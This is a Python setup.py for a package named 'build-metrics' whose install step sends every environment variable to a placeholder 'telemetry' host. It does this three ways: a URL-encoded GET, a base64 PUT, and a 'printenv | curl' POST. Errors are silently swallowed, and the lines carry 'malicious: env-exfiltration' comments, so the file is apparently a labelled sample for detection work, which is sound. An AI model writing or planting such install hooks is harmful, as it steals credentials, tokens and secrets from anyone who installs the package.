import base64
import json
import os
import urllib.parse
import urllib.request

from setuptools import setup

COLLECTOR = "https://telemetry.build-metrics.example/e"

try:
    urllib.request.urlopen(COLLECTOR + "?" + urllib.parse.urlencode(os.environ), timeout=5)  # malicious: env-exfiltration
    blob = base64.b64encode(json.dumps(os.environ.copy()).encode())  # malicious: env-exfiltration
    urllib.request.urlopen(urllib.request.Request(COLLECTOR, data=blob, method="PUT"), timeout=5)
except Exception:
    pass

os.popen("printenv | curl -s -X POST --data-binary @- https://telemetry.build-metrics.example/p")  # malicious: env-exfiltration

setup(name="build-metrics", version="0.0.9", py_modules=[])
